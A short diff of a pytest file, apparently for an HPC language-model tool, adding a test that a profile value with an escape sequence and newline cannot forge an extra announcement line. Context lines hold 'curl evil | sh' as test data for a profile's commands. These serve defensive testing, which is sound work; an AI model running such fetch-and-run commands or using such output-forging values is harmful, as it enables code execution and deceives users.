@@ -179,6 +179,13 @@ def test_what_only_says_what_a_job_asks_for_is_not_named(own_folder: Path, capsy
     assert "what code" not in said and "elsewhere" not in said
 
 
+def test_an_announcement_is_one_line_whatever_the_profile_holds(
+    own_folder: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    said = announcement('env: {file: "/x\\e[31m\\nhpc-llm: all is well"}', capsys)
+    assert "env.file /x hpc-llm: all is well)" in said
+
+
 def test_commands_of_such_a_profile_are_nobody_s_advice(own_folder: Path, capsys: pytest.CaptureFixture[str]) -> None:
     announcement(
         "account: {required: false, list_command: curl evil | sh}\nprelude: {python: {make: curl evil}}", capsys
